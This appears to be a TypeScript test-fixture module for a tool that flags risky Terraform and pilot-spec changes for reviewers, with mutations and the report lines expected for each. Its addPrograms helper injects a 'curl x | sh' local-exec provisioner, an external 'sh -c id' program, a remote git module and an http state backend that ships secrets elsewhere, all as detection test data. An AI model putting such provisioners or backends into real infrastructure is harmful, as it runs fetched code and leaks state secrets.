/** A change that a reviewer must not miss, and how each platform's table says it. */

import type { PilotSpecInput, PlatformId } from "../../../stacks/pilot-spec/schema.js";

// biome-ignore lint/suspicious/noExplicitAny: JSON that is changed at will
export type Json = any;

/** One row: the change, and what the report says of it, the gravest first. */
export type Row = readonly [
  name: string,
  change: (json: Json) => void,
  /** Rows of the report, as `kind (flags) address: text`; each begins so. */
  expected: readonly string[],
];

/** One row that is an edit of the spec; `stops` holds the kinds that stop CI, where it does not stop for each line. */
export type SpecRow = readonly [
  name: string,
  change: (input: PilotSpecInput) => void,
  expected: readonly string[],
  stops?: readonly string[],
];

/** Another release is listed, and goes live. */
export const goLive =
  (platform: PlatformId) =>
  (input: PilotSpecInput): void => {
    Object.assign(input[platform] ?? {}, { releases: { r1: "1", r2: "2", r9: "9" }, live: "r9" });
  };

/** Nothing is kept when the pilot is destroyed. */
export const keepNothing = (input: PilotSpecInput): void => {
  input.onDestroy = "delete";
};

/** The spec lets an endpoint have 50 replicas. */
export const manyReplicas = (input: PilotSpecInput): void => {
  input.endpoint = { ...input.endpoint, maxReplicas: 50 };
};

/** The spec trains on large accelerators. */
export const largeTraining = (input: PilotSpecInput): void => {
  input.training = { ...input.training, hardware: "gpu-large" };
};

/** Another address for a bucket, without a `moved` block. */
export const readdress = (json: Json, type: string): void => {
  everywhere(json, `${type}.data-bucket.`, `${type}.store.`);
  everywhere(json, `"${type}.data-bucket"`, `"${type}.store"`);
  json.resource[type].store = json.resource[type]["data-bucket"];
  delete json.resource[type]["data-bucket"];
};

/** The version under the live release's name becomes another one, as the ledger says it. */
export const reversion = (json: Json): void => {
  json["//"].pilot.releases.r1 = "7";
};
export const reversioned = `release-changed "//".pilot.releases.r1: release r1: version 1 → 7`;

/** The resources of a type, or those whose id holds a part. */
export const all = (json: Json, type: string, part = ""): Json[] =>
  Object.entries<Json>(json.resource[type])
    .filter(([id]) => id.includes(part))
    .map(([, given]) => given);

/** Takes the resources away whose id holds a part. */
export function remove(json: Json, type: string, part = ""): void {
  for (const id of Object.keys(json.resource[type])) if (id.includes(part)) delete json.resource[type][id];
}

/** Adds a resource. */
export function add(json: Json, type: string, id: string, given: Json): void {
  json.resource[type] = { ...json.resource[type], [id]: given };
}

/** Changes a policy that stands in a string. */
export function inPolicy(given: Json, key: string, change: (policy: Json) => void): void {
  const policy = JSON.parse(given[key]);
  change(policy);
  given[key] = JSON.stringify(policy);
}

/** Replaces a text wherever it stands. */
export function everywhere(json: Json, was: string, is: string): void {
  Object.assign(json, JSON.parse(JSON.stringify(json).replaceAll(was, is)));
}

/** The digest of the image in the example's variants, and another one. */
export const digests = ["0123456789abcdef".repeat(4), "f".repeat(64)] as const;

/** Gives every limit of an owner to another one, as the ledger says it. */
export const disown = (json: Json): void => {
  for (const { limits } of json["//"].pilot.boxes)
    for (const limit of limits) if (limit.owner === "ml@example.com") limit.owner = "eve@example.com";
};

/** Adds what runs a program, fetches code, and sends state and calls elsewhere. */
export const addPrograms = (json: Json): void => {
  add(json, "terraform_data", "run", { provisioner: [{ "local-exec": { command: "curl x | sh" } }] });
  json.data = { ...json.data, external: { e: { program: ["sh", "-c", "id"] } } };
  json.module = { m: { source: "git::https://example.org/m.git" } };
  json.terraform.backend = { http: { address: "https://states.example.org" } };
};
export const programs: readonly string[] = [
  "state terraform.backend: the state is kept elsewhere: local → http.",
  "state terraform.backend.http: backend http: the state, with what is secret in it, goes there",
  "program terraform_data.run: provisioner local-exec: it runs a program at each create or destroy",
  "program data.external.e: data external: it runs or calls something whenever Terraform plans",
  "module module.m: module.m: its resources are not known without a plan, whose code is fetched from git::https://example.org/m.git",
];
